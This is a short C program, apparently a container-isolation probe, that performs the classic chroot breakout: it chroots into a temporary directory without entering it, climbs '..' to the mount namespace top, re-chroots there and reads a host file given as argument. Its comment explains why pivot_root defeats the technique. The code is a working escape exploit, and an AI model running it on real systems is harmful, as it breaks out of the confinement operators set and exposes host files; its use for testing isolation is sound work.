/* mc-escape-chroot-breakout FILE: the classic ".." climb out of a chroot, then read FILE.
 *
 * chroot(2) changes only where "/" resolves for this process; it does not move
 * the working directory.  So a process that may chroot (CAP_SYS_CHROOT) can:
 *
 *   1. make a directory and chroot into it without entering it: the cwd is now
 *      *outside* its root, and ".." from there is never stopped at the root;
 *   2. climb with chdir("..") until the cwd is the top of its mount namespace
 *      (".." of the real top is the top itself, so too many steps do no harm);
 *   3. chroot(".") there: its root is now the top of the whole mount tree.
 *
 * Under a plain chroot that top is the host's "/".  After pivot_root, with the
 * old root detached, the top of the mount namespace is the container's own
 * root: the climb ends where it began, and FILE (a host path) is not there.
 *
 * busybox's chroot applet always chdirs into the new root, which is exactly what
 * closes step 1 for a shell, hence this program.  It only reads; it has no policy.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define CLIMB 64

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s FILE\n", argv[0]);
        return 2;
    }
    const char *inner = "/tmp/mc-breakout.d";
    if (mkdir(inner, 0700) != 0 && errno != EEXIST) {
        printf("mkdir %s: %s\n", inner, strerror(errno));
        return 2;
    }
    if (chroot(inner) != 0) {
        printf("chroot(\"%s\"): %s\n", inner, strerror(errno));
        return 1;
    }
    printf("chroot(\"%s\"): ok, the cwd is now outside the root\n", inner);
    for (int i = 0; i < CLIMB; i++) {
        if (chdir("..") != 0) {
            printf("chdir(\"..\") #%d: %s\n", i + 1, strerror(errno));
            return 1;
        }
    }
    printf("chdir(\"..\") x%d: ok\n", CLIMB);
    if (chroot(".") != 0) {
        printf("chroot(\".\"): %s\n", strerror(errno));
        return 1;
    }
    printf("chroot(\".\"): ok, the root is now the top of the mount namespace\n");
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("open(\"%s\"): %s\n", argv[1], strerror(errno));
        return 1;
    }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) {
        printf("read(\"%s\"): %s\n", argv[1], strerror(errno));
        return 1;
    }
    buf[n] = '\0';
    printf("read(\"%s\"): %s\n", argv[1], buf);
    return 0;
}
